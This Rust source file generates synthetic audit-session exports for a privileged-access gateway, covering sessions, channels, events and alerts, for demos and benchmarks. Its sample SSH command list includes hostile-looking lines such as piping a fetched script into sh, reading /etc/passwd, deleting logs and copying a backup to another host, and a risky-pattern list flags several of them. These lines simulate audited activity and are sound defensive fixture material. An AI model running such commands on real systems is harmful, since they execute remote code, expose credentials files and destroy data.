//! A generator of realistic SPS exports, deterministic from a seed: every protocol, the three verdict
//! spellings, UNIX and ISO 8601 times, 5.x and 6.x+ event keys, channels of each protocol, analytics,
//! alerts, trail downloads and indexer jobs, and a few of the inconsistencies real data has.
//! The demo export and the benchmarks are made with it.

use serde_json::{json, Value};
use std::borrow::Borrow;

/// SplitMix64: tiny, fast, and the same sequence everywhere, which is all a fixture generator needs.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
    fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.below(xs.len() as u64) as usize]
    }
    fn chance(&mut self, percent: u64) -> bool {
        self.below(100) < percent
    }
    fn key(&mut self, len: usize) -> String {
        const ALPHABET: &[u8] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
        (0..len).map(|_| *self.pick(ALPHABET) as char).collect()
    }
}

/// Which SPS generation a session is written like.
#[derive(Clone, Copy, PartialEq)]
enum Era {
    /// Before 5 LTS: UNIX times, lower-case verdicts, numeric index status, `psm.*` events.
    V5,
    /// 6.x: ISO times with an offset, documented verdict spellings, `indexing` link.
    V6,
    /// 7.x: `Z` times, upper-case verdicts, list server usernames, domains, `trail_download_link`.
    V7,
}

/// How the sessions are laid out in the output.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Layout {
    /// A bare JSON array of session documents.
    Array,
    /// A `fields=*` session list document.
    List,
    /// NDJSON: session documents, then their channels, events, alerts, trail downloads and indexer
    /// documents, then a link-stub list (which names one session that is not in the export).
    Ndjson,
}

impl Layout {
    /// The layout a command-line name (`array`, `list`, `ndjson`) names.
    pub fn parse(s: &str) -> Option<Layout> {
        match s {
            "array" => Some(Layout::Array),
            "list" => Some(Layout::List),
            "ndjson" => Some(Layout::Ndjson),
            _ => None,
        }
    }
}

/// How the sessions are written, beyond their layout: the spellings that make loading hard.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct Variant {
    /// Each session carries its channels, events and alerts inline, as arrays in `body` where the
    /// API writes `{href}` links (the spec's only vendor channels example is such an array), so
    /// every session has findings to place.
    pub inline: bool,
    /// Every time is UNIX seconds, as SPS before 5 LTS wrote them.
    pub unix_times: bool,
    /// Flags and numbers written as text (`"hidden": "false"`, `"revision": "3"`), as some
    /// connectors do: two type findings in every session.
    pub text_scalars: bool,
}

impl Variant {
    /// The hard case for loading: every session carries findings to place (scalars written as
    /// text), its collections inline and its times as UNIX seconds.
    pub const FINDINGS: Variant = Variant { inline: true, unix_times: true, text_scalars: true };
}

/// A generated export: session documents and the documents linked from them.
pub struct Export {
    /// The session documents.
    pub sessions: Vec<Value>,
    /// The documents linked from them (channels, events, alerts …).
    pub related: Vec<Value>,
}

const USERS: &[&str] = &[
    "alice",
    "bob",
    "jdoe",
    "mkovacs",
    "svc_backup",
    "dba01",
    "helpdesk2",
    "root-ops",
    "tnakamura",
    "eve",
];
const SERVER_USERS: &[&str] =
    &["root", "postgres", "administrator", "oracle", "www-data", "ubuntu", "Administrator"];
const POLICIES: &[(&str, &str)] = &[
    ("ssh-prod", "4417720985f1a2b3c4d5e6"),
    ("rdp-jump", "15682863055beac3c8d23bf"),
    ("citrix-apps", "7731884020640a1b2c3d4e"),
    ("legacy-telnet", "2211a0b9c8d7e6f5a4b3c2"),
    ("web-admin", "99aa88bb77cc66dd55ee44"),
];
const SSH_COMMANDS: &[&str] = &[
    "ls -la",
    "df -h",
    "sudo systemctl restart nginx",
    "cat /etc/passwd",
    "tail -f /var/log/syslog",
    "vim /etc/ssh/sshd_config",
    "chmod 777 /tmp/x",
    "su -",
    "rm -rf /var/log/app",
    "mount /dev/sdb1 /mnt",
    "adduser temp",
    "shutdown -r now",
    "psql -c 'select 1'",
    "scp backup.tgz 10.9.9.9:/tmp",
    "curl http://example.test/run.sh | sh",
];
const RISKY: &[&str] = &["rm -rf", "chmod 777", "curl", "shutdown", "adduser", "cat /etc/passwd"];
const WINDOWS: &[&str] = &[
    "Server Manager",
    "PowerShell",
    "Control Panel",
    "Event Viewer",
    "Management Console",
    "Notepad - hosts",
];

/// Generates `n` sessions from `seed`. The same inputs always give the same export.
pub fn generate(n: usize, seed: u64) -> Export {
    generate_variant(n, seed, Variant::default())
}

/// Generates `n` sessions from `seed`, written as `variant` says.
pub fn generate_variant(n: usize, seed: u64, variant: Variant) -> Export {
    let mut sessions = Vec::with_capacity(n);
    let mut related = Vec::new();
    for (doc, rel) in each_session(n, seed, variant) {
        sessions.push(doc);
        related.extend(rel);
    }
    Export { sessions, related }
}

/// The sessions of [`generate_variant`] one at a time, each with the documents linked from it (none
/// when they are inline), so an export of a million sessions is written without holding it.
pub fn each_session(
    n: usize,
    seed: u64,
    variant: Variant,
) -> impl Iterator<Item = (Value, Vec<Value>)> {
    let mut rng = Rng(seed);
    // 2024-03-01T06:00:00Z
    let mut clock: i64 = 1_709_272_800;
    (0..n).map(move |i| {
        clock += 60 + rng.below(2400) as i64;
        let (mut doc, rel) = session(&mut rng, i, clock, variant.unix_times);
        if variant.text_scalars {
            if let Some(body) = doc.get_mut("body") {
                for member in ["hidden", "revision"] {
                    let text = body[member].to_string();
                    body[member] = Value::String(text);
                }
            }
        }
        let rel = if variant.inline {
            rel.into_iter().filter_map(|d| inline_into(&mut doc, d)).collect()
        } else {
            rel
        };
        (doc, rel)
    })
}

/// Writes the export [`generate_variant`] and [`Export::render`] would give, byte for byte, a session
/// at a time (NDJSON lists its linked documents after every session, so they are generated again for
/// a second pass rather than kept).
pub fn write(
    n: usize,
    seed: u64,
    variant: Variant,
    layout: Layout,
    out: &mut impl std::io::Write,
) -> std::io::Result<()> {
    let sessions = each_session(n, seed, variant).map(|(doc, _)| doc);
    write_layout(
        sessions,
        || each_session(n, seed, variant).flat_map(|(_, rel)| rel),
        n,
        layout,
        out,
    )
}

/// The `n` sessions and (for NDJSON) the documents linked from them, written in `layout`: the one
/// spelling of each layout, for an export held whole and for one generated as it is written.
fn write_layout<S, R>(
    sessions: impl IntoIterator<Item = S>,
    related: impl FnOnce() -> R,
    n: usize,
    layout: Layout,
    out: &mut impl std::io::Write,
) -> std::io::Result<()>
where
    S: Borrow<Value>,
    R: IntoIterator,
    R::Item: Borrow<Value>,
{
    let mut stubs = Vec::new();
    match layout {
        Layout::Array => out.write_all(b"[")?,
        Layout::List => out.write_all(b"{\"items\":[")?,
        Layout::Ndjson => {}
    }
    for (i, doc) in sessions.into_iter().enumerate() {
        let doc: &Value = doc.borrow();
        match layout {
            Layout::Ndjson => {
                serde_json::to_writer(&mut *out, doc)?;
                out.write_all(b"\n")?;
                stubs.push(json!({"key": doc["key"], "meta": {"href": doc["meta"]["href"]}}));
            }
            _ => {
                if i > 0 {
                    out.write_all(b",")?;
                }
                serde_json::to_writer(&mut *out, doc)?;
            }
        }
    }
    match layout {
        Layout::Array => out.write_all(b"]"),
        Layout::List => {
            out.write_all(b"],\"meta\":")?;
            serde_json::to_writer(&mut *out, &list_meta(n))?;
            out.write_all(b"}")
        }
        Layout::Ndjson => {
            for d in related() {
                let d: &Value = d.borrow();
                serde_json::to_writer(&mut *out, d)?;
                out.write_all(b"\n")?;
            }
            serde_json::to_writer(&mut *out, &stub_list(stubs))?;
            out.write_all(b"\n")
        }
    }
}

/// The `meta` of a `fields=*` list of `n` sessions.
fn list_meta(n: usize) -> Value {
    json!({"href": "/api/audit/sessions", "parent": "/api/audit", "fields": ["*"],
           "first": "/api/audit/sessions?limit=100000&offset=0&fields=*", "last": "/api/audit/sessions?limit=100000&offset=0&fields=*",
           "next": null, "previous": null, "limit": 100_000, "offset": 0, "match_count": n, "remaining_seconds": 43180})
}

/// The list of stubs an NDJSON export ends with: every session's, and one that is not exported.
fn stub_list(mut stubs: Vec<Value>) -> Value {
    stubs.push(json!({"key": "NotExported0000000001", "meta": {"href": "/api/audit/sessions/NotExported0000000001"}}));
    let n = stubs.len();
    json!({"items": stubs, "meta": {"href": "/api/audit/sessions", "parent": "/api/audit", "fields": [],
    "first": "/api/audit/sessions?limit=500&offset=0&fields=", "last": "/api/audit/sessions?limit=500&offset=0&fields=",
    "next": null, "previous": null, "limit": 500, "offset": 0, "match_count": n}})
}

fn iso(epoch: i64, offset_minutes: i32, millis: bool) -> String {
    use chrono::{FixedOffset, TimeZone};
    let off = FixedOffset::east_opt(offset_minutes * 60)
        .unwrap_or(FixedOffset::east_opt(0).expect("zero offset is valid"));
    let dt = off.timestamp_opt(epoch, 0).single().unwrap_or_default();
    match (offset_minutes, millis) {
        (0, true) => dt.format("%Y-%m-%dT%H:%M:%S%.3fZ").to_string(),
        (0, false) => dt.format("%Y-%m-%dT%H:%M:%SZ").to_string(),
        (_, true) => dt.format("%Y-%m-%dT%H:%M:%S%.3f%:z").to_string(),
        (_, false) => dt.format("%Y-%m-%dT%H:%M:%S%:z").to_string(),
    }
}

fn naive(epoch: i64, frac: &str) -> String {
    use chrono::{TimeZone, Utc};
    format!(
        "{}{frac}",
        Utc.timestamp_opt(epoch, 0).single().unwrap_or_default().format("%Y-%m-%dT%H:%M:%S")
    )
}

/// Moves a channels, events or alerts document's items into the session's body, in place of its
/// link; gives back any other document.
fn inline_into(session: &mut Value, related: Value) -> Option<Value> {
    let href = related["meta"]["href"].as_str().unwrap_or_default();
    let member =
        ["channels", "events", "alerts"].into_iter().find(|m| href.ends_with(&format!("/{m}")));
    match (member, session.get_mut("body")) {
        (Some(m), Some(body)) => {
            body[m] = related["items"].clone();
            None
        }
        _ => Some(related),
    }
}

fn session(rng: &mut Rng, i: usize, start: i64, unix_times: bool) -> (Value, Vec<Value>) {
    let era = match rng.below(10) {
        0 => Era::V5,
        1..=4 => Era::V6,
        _ => Era::V7,
    };
    // The era is drawn either way, so a variant changes spellings, not which sessions there are.
    let era_times = if unix_times { Era::V5 } else { era };
    let key = if era == Era::V7 { rng.key(20) } else { rng.key(22) };
    let href = format!("/api/audit/sessions/{key}");
    let protocol = *rng.pick(&["SSH", "SSH", "SSH", "RDP", "RDP", "ICA", "VNC", "TELNET", "HTTP"]);
    let (policy, policy_id) = *match protocol {
        "SSH" => &POLICIES[0],
        "RDP" | "VNC" => &POLICIES[1],
        "ICA" => &POLICIES[2],
        "TELNET" => &POLICIES[3],
        _ => &POLICIES[4],
    };
    let port = match protocol {
        "SSH" => 22,
        "RDP" => 3389,
        "ICA" => 1494,
        "VNC" => 5900,
        "TELNET" => 23,
        _ => 443,
    };
    // Verdict in the documented vocabulary, spelled per era below.
    let verdict = match rng.below(100) {
        0..=77 => "accept",
        78..=83 => "auth-fail",
        84..=87 => "accept-terminated",
        88..=90 => "deny",
        91..=92 => "fail",
        93..=94 => "gw-auth-fail",
        95..=96 => "key-error",
        _ => "user-mapping-fail",
    };
    let accepted = matches!(verdict, "accept" | "accept-terminated");
    let active = accepted && i % 29 == 5;
    let duration: i64 =
        if accepted { 20 + rng.below(3 * 3600) as i64 } else { rng.below(15) as i64 };
    let end = start + duration;
    let user = *rng.pick(USERS);
    let server_user = *rng.pick(SERVER_USERS);
    let host_n = rng.below(24);
    let server_name =
        format!("{}-{:02}", rng.pick(&["db-prod", "web", "app", "jump", "fs", "dc"]), host_n);
    let server_ip = format!("198.51.100.{}", 10 + host_n);
    let client_ip = format!("10.20.{}.{}", rng.below(8), 2 + rng.below(250));
    let client = json!({"ip": client_ip, "name": if rng.chance(60) { format!("ws-ops-{:02}", rng.below(40)) } else { client_ip.clone() }, "port": 49152 + rng.below(16000)});
    let offset = *rng.pick(&[60, 120, 300, -300, 0]);
    let time = |t: i64| -> Value {
        match era_times {
            Era::V5 => json!(t),
            Era::V6 => json!(iso(t, offset, true)),
            Era::V7 => json!(iso(t, 0, true)),
        }
    };
    let spell = |v: &str| -> String {
        match era {
            Era::V5 | Era::V6 => v.to_string(),
            Era::V7 => match v {
                "accept-terminated" => "TERMINATED".into(),
                other => other.to_uppercase().replace('-', "_"),
            },
        }
    };
    let top_verdict = match verdict {
        "accept" => "ACCEPT".to_string(),
        "accept-terminated" => "TERMINATED".to_string(),
        v => v.to_uppercase().replace('-', "_"),
    };
    let mut commands: Vec<&str> = Vec::new();
    if accepted && matches!(protocol, "SSH" | "TELNET") {
        for _ in 0..(2 + rng.below(6)) {
            commands.push(*rng.pick(SSH_COMMANDS));
        }
    }
    let titles: Vec<&str> = if accepted && matches!(protocol, "RDP" | "ICA" | "VNC") {
        (0..3).map(|_| *rng.pick(WINDOWS)).collect()
    } else {
        vec![]
    };
    let risky: Vec<&str> =
        commands.iter().copied().filter(|c| RISKY.iter().any(|r| c.contains(r))).collect();
    let score = if era == Era::V5 && rng.chance(50) {
        None
    } else {
        Some((rng.below(60) + 25 * risky.len() as u64).min(100))
    };
    let scripted = protocol == "SSH" && rng.chance(8);
    let interesting: Vec<&str> = commands
        .iter()
        .map(|c| c.split_whitespace().next().unwrap_or(c))
        .chain(titles.iter().copied())
        .filter(|w| {
            [
                "sudo",
                "su",
                "chmod",
                "mount",
                "adduser",
                "shutdown",
                "vim",
                "PowerShell",
                "Server Manager",
                "Control Panel",
                "Management Console",
            ]
            .contains(w)
        })
        .collect();
    let mut analytics = json!({
        "interesting_events": interesting,
        "scripted": scripted,
        "scripted_results": if scripted { json!({"clockmaster": "regular keystroke timing", "gapminder": "no human pauses"}) } else { json!({"clockmaster": "not scripted", "gapminder": "baseline not ready"}) },
        "similar_sessions": [],
        "tags": if scripted { json!(["scripted"]) } else { json!([]) },
    });
    if let Some(s) = score {
        let algos = if matches!(protocol, "RDP" | "ICA" | "VNC") {
            vec!["mouse", "windowtitle", "logintime", "hostlogin"]
        } else {
            vec!["command", "fis", "keystroke", "logintime", "hostlogin"]
        };
        let details: serde_json::Map<String, Value> = algos
            .iter()
            .map(|a| {
                (a.to_string(), json!({"score": (s + rng.below(30)).saturating_sub(15).min(100)}))
            })
            .collect();
        analytics["score"] = json!({"aggregated": s, "details": details});
    }
    if era == Era::V7 {
        analytics["bucketed_duration"] = json!(if duration < 600 {
            "short"
        } else if duration < 3600 {
            "medium"
        } else {
            "long"
        });
        analytics["bucketed_starting_hour"] = json!(format!(
            "{:02}-{:02}",
            (start / 3600) % 24 / 4 * 4,
            (start / 3600) % 24 / 4 * 4 + 4
        ));
    }
    let index_status: Value = match (era, accepted, active) {
        (_, false, _) => json!(if era == Era::V5 { json!(6) } else { json!("NO_TRAIL") }),
        (_, _, true) => json!("CHANNEL_OPEN"),
        (Era::V5, _, _) => json!(3),
        _ => json!(*rng.pick(&[
            "INDEXED",
            "INDEXED",
            "INDEXED",
            "INDEXING_NOT_REQUIRED",
            "INDEXING_FAILED"
        ])),
    };
    let archived = accepted && !active && rng.chance(30);
    let archive = archived.then(|| json!({"date": iso(end + 86_400 * 20, 0, true), "path": format!("{}/", naive(end, "").get(..10).unwrap_or("")), "policy": "8106930065bf7eb4c3cf59", "server": "\\\\192.0.2.50\\sps-archive (user: archiver)"}));
    let mut recording = json!({
        "archived": archived,
        "audit_trail": if accepted { json!({"archive": if era == Era::V7 { Value::Null } else { archive.clone().unwrap_or(Value::Null) }, "download": {"href": format!("{href}/audit_trail")}}) } else { Value::Null },
        "auth_method": match protocol { "SSH" => *rng.pick(&["password", "publickey", "keyboard-interactive"]), "HTTP" => "basic", _ => "password" },
        "channel_policy": if protocol == "SSH" { "shell-and-scp" } else { "all-channels" },
        "command_extracted": !commands.is_empty(),
        "connection_policy": policy,
        "connection_policy_id": policy_id,
        "content_reference_id": 1000 + i,
        "has_accepted_channel": accepted,
        "index_status": index_status,
        "server_local": {"ip": "198.51.100.5", "name": "sps-node-1", "port": 40000 + rng.below(20000)},
        "session_id": format!("svc/{key}/{policy}:{}", i % 40),
        "target": {"ip": server_ip, "name": server_name, "port": port},
        "verdict": if era == Era::V6 && verdict == "accept" && rng.chance(30) { "Accepted".to_string() } else { spell(verdict) },
        "window_title_extracted": !titles.is_empty(),
    });
    if rng.chance(20) {
        recording["network_id"] = json!("ns-0");
    }
    if era == Era::V7 {
        if let Some(a) = &archive {
            recording["archive"] = a.clone();
        }
        if verdict == "deny" {
            recording["deny_reason"] = json!("connection policy denies this client address");
        }
    }
    let mut body = json!({
        "active": active,
        "alerts": {"href": format!("{href}/alerts")},
        "analytics": analytics,
        "channels": {"href": format!("{href}/channels")},
        "client": client,
        "creation_time": if era_times == Era::V5 { json!(start + 1) } else { json!(iso(start + 1, 0, true)) },
        "duration": duration,
        "end_time": if active { Value::Null } else { time(end) },
        "events": {"href": format!("{href}/events")},
        "hidden": false,
        "node_id": "3c9a5e1b-7d40-4f3e-9b1a-2f6c0d8e4a11",
        "origin": if era == Era::V7 && i.is_multiple_of(13) { "LOG" } else { "RECORDING" },
        "phantom": false,
        "protocol": protocol,
        "recording": recording,
        "revision": 1 + rng.below(9),
        "server": {"ip": server_ip, "name": server_name, "port": port},
        "start_time": time(start),
        "user": {"id": user, "name": user, "server_username": if era == Era::V7 { json!([server_user]) } else { json!(server_user) }},
        "verdict": top_verdict,
    });
    // Link spelling differs by version: the sample says indexing, the field table says indexer.
    let link = if era == Era::V7 { "indexer" } else { "indexing" };
    body[link] = json!({"href": format!("{href}/{link}")});
    if era != Era::V5 {
        body["trail_downloads"] = json!({"href": format!("{href}/trail_downloads")});
    }
    if era == Era::V7 {
        body["server"]["id"] = json!(format!("srv-{host_n}"));
        body["server"]["address"] = json!(server_ip);
        body["user"]["gateway_username"] = json!(user);
        body["user"]["name_domain"] = json!("CORP");
        body["user"]["server_username_domain"] = json!(if protocol == "RDP" { "CORP" } else { "" });
        body["trail_download_link"] =
            if accepted { json!(format!("{href}/audit_trail")) } else { Value::Null };
        if body["origin"] == "LOG" {
            body["log"] = json!({"adapter_name": "sshd", "auth_method": "publickey", "syslog_time": iso(start, 0, true)});
        }
    }
    // Real exports carry inconsistencies; the seed sample itself ends before it starts.
    if i % 17 == 11 && !active {
        body["end_time"] = time(start - 5460);
    }
    if i % 23 == 7 {
        body["duration"] = json!(duration + 900);
    }
    let doc = json!({"key": key, "body": body, "meta": {"href": href, "parent": "/api/audit/sessions", "remaining_seconds": 598}});
    let related = if accepted {
        related_docs(
            rng, era, era_times, &key, protocol, start, duration, &commands, &titles, &risky,
        )
    } else {
        vec![]
    };
    (doc, related)
}

fn meta(href: &str, parent: &str, n: usize) -> Value {
    json!({"href": href, "parent": parent, "first": format!("{href}?limit=500&offset=0"), "last": format!("{href}?limit=500&offset=0"),
           "next": null, "previous": null, "limit": 500, "offset": 0, "match_count": n})
}

#[allow(clippy::too_many_arguments)]
fn related_docs(
    rng: &mut Rng,
    era: Era,
    era_times: Era,
    key: &str,
    protocol: &str,
    start: i64,
    duration: i64,
    commands: &[&str],
    titles: &[&str],
    risky: &[&str],
) -> Vec<Value> {
    let parent = format!("/api/audit/sessions/{key}");
    let t = |s: i64| -> Value {
        if era_times == Era::V5 {
            json!(s)
        } else {
            json!(iso(s, 0, true))
        }
    };
    let mut channels = Vec::new();
    let mut add = |rng: &mut Rng, body: Value| {
        let n = channels.len() + 1;
        let mut b = json!({"channel_id": n, "rule_num": format!("{}", 1 + rng.below(4)), "audit_stream_id": format!("{n}"), "active": false,
                           "start_time": t(start + n as i64), "end_time": t(start + duration), "duration": duration - n as i64, "verdict": "accept"});
        if let (Some(dst), Some(src)) = (b.as_object_mut(), body.as_object()) {
            for (k, v) in src {
                dst.insert(k.clone(), v.clone());
            }
        }
        channels.push(json!({"key": n.to_string(), "meta": {"href": format!("{parent}/channels/{n}")}, "body": b}));
    };
    match protocol {
        "SSH" => {
            add(rng, json!({"type": "session shell"}));
            if rng.chance(40) {
                add(rng, json!({"type": "session exec", "command": "uptime"}));
            }
            if rng.chance(30) {
                add(rng, json!({"type": "session exec scp", "scp_path": "/srv/backup"}));
            }
            if rng.chance(25) {
                add(rng, json!({"type": "session subsystem sftp", "subsystem_name": "sftp"}));
            }
            if rng.chance(20) {
                // The vendor's example writes forward ends as flat dotted keys.
                add(
                    rng,
                    json!({"type": "local forward", "originator.address": "127.0.0.1", "originator.port": 51001, "connected.address": "10.1.2.3", "connected.port": 5432}),
                );
            }
            if rng.chance(12) {
                add(
                    rng,
                    json!({"type": "remote forward", "verdict": "four-eyes-reject", "originator": {"ip": "10.1.2.3", "name": "10.1.2.3", "port": 8080},
                                "connected": {"ip": "127.0.0.1", "name": "localhost", "port": 80}, "four_eyes_authorizer": "secops1", "four_eyes_description": "not approved for production"}),
                );
            }
        }
        "RDP" => {
            add(rng, json!({"type": "drawing"}));
            add(
                rng,
                json!({"type": "dynamic virtual", "dynamic_channel": "Microsoft::Windows::RDS::Graphics"}),
            );
            if rng.chance(50) {
                add(rng, json!({"type": "disk redirect", "device_name": "C:"}));
            }
            if rng.chance(30) {
                add(rng, json!({"type": "printer redirect", "device_name": "HP LaserJet 4"}));
            }
            if rng.chance(20) {
                add(rng, json!({"type": "scard redirect", "device_name": "SCARD"}));
            }
        }
        "ICA" => {
            add(rng, json!({"type": "drawing"}));
            let app = *rng.pick(&["SAP Logon", "Excel", "mmc.exe"]);
            add(rng, json!({"type": "seamless", "application": app}));
        }
        "VNC" | "TELNET" => {
            let mut b = json!({"type": if protocol == "VNC" { "drawing" } else { "terminal" }});
            if rng.chance(50) {
                b["client_x509_subject"] = json!("CN=ws-ops-07,OU=Ops,O=Example");
            }
            add(rng, b);
        }
        _ => add(rng, json!({"type": "http"})),
    }
    let nchan = channels.len();
    let mut out = vec![
        json!({"items": channels, "meta": meta(&format!("{parent}/channels"), &parent, nchan)}),
    ];
    let naive_t = |k: usize, frac: &str| naive(start + 5 + 13 * k as i64, frac);
    if !commands.is_empty() || !titles.is_empty() {
        let items: Vec<Value> = if era == Era::V5 {
            commands
                .iter()
                .enumerate()
                .map(|(k, c)| {
                    json!({"psm.channels.id": "0", "psm.events.content": format!("ops@host:~$ {c}"), "psm.events.record_id": 10 + k * 7,
                                                           "psm.events.time": naive_t(k, ".204"), "psm.events.type": "adp.event.command"})
                })
                .collect()
        } else {
            commands.iter().map(|c| ("command", *c)).chain(titles.iter().map(|w| ("window_title", *w))).enumerate()
                .map(|(k, (ty, c))| json!({"action": c, "channels_id": "0", "content": if ty == "command" { format!("ops@host:~$ {c}") } else { c.to_string() },
                                            "record_id": 10 + k * 7, "time": naive_t(k, ".204"), "type": ty})).collect()
        };
        let n = items.len();
        out.push(json!({"items": items, "meta": meta(&format!("{parent}/events"), &parent, n)}));
    }
    if !risky.is_empty() && era != Era::V5 {
        let items: Vec<Value> = risky.iter().enumerate().map(|(k, c)| {
            let pattern = RISKY.iter().find(|r| c.contains(*r)).copied().unwrap_or(c);
            json!({"alert_type": "adp.event.command", "channel_id": "0", "matched_action": c, "matched_content": format!("[root@host ~]# {c}"),
                   "matched_regexp": pattern, "record_id": 200 + k, "rule_name": "PatternMatcherRule", "time": naive_t(k, ".144356")})
        }).collect();
        let n = items.len();
        out.push(json!({"items": items, "meta": meta(&format!("{parent}/alerts"), &parent, n)}));
    }
    if era != Era::V5 && rng.chance(25) {
        let items = vec![
            json!({"from_api": true, "ip_address": "192.0.2.40", "time": iso(start + duration + 86_400, 0, true), "username": "auditor1"}),
        ];
        out.push(
            json!({"items": items, "meta": meta(&format!("{parent}/trail_downloads"), &parent, 1)}),
        );
    }
    if rng.chance(30) {
        let link = if era == Era::V7 { "indexer" } else { "indexing" };
        let items = vec![
            json!({"config": {"command": {"enabled": true}, "keyboard": {"enabled": true, "buffer_interval": 3}, "mouse": {"enabled": false, "buffer_interval": 1},
                                           "near_realtime": false, "ocr_languages": ["eng", "deu"], "screen": {"enabled": true, "omnipage_trade_off": "TO_ACCURATE"}, "title": {"enabled": true}},
                                "statistics": {"cpu_time": 5 + rng.below(60), "duration": 30 + rng.below(300), "start_time": (start + duration + 60) * 1000 + 311},
                                "status": "COMPLETED", "version": {"adp": "7.5.1", "worker": "5.2.0"}}),
        ];
        out.push(json!({"items": items, "meta": meta(&format!("{parent}/{link}"), &parent, 1)}));
    }
    out
}

impl Export {
    /// The export as text in the given layout.
    pub fn render(&self, layout: Layout) -> String {
        let mut out = Vec::new();
        // Into memory, so it cannot fail; serde_json writes UTF-8.
        let _ =
            write_layout(&self.sessions, || &self.related, self.sessions.len(), layout, &mut out);
        String::from_utf8(out).unwrap_or_default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn written_a_session_at_a_time_it_is_the_same_export() {
        for variant in [Variant::default(), Variant::FINDINGS] {
            for layout in [Layout::Ndjson, Layout::Array, Layout::List] {
                let mut out = Vec::new();
                write(40, 5, variant, layout, &mut out).expect("writes to memory");
                let whole = generate_variant(40, 5, variant);
                assert_eq!(
                    String::from_utf8(out).expect("UTF-8"),
                    whole.render(layout),
                    "{layout:?}"
                );
                // The layouts as serde_json writes the whole document (NDJSON: the committed demo's test).
                let reference = match layout {
                    Layout::Array => Value::Array(whole.sessions.clone()).to_string(),
                    Layout::List => {
                        json!({"items": whole.sessions, "meta": list_meta(whole.sessions.len())})
                            .to_string()
                    }
                    Layout::Ndjson => continue,
                };
                assert_eq!(whole.render(layout), reference, "{layout:?}");
            }
        }
    }

    #[test]
    fn same_seed_same_export() {
        assert_eq!(generate(30, 7).render(Layout::Ndjson), generate(30, 7).render(Layout::Ndjson));
        assert_ne!(generate(30, 7).render(Layout::Array), generate(30, 8).render(Layout::Array));
    }
}
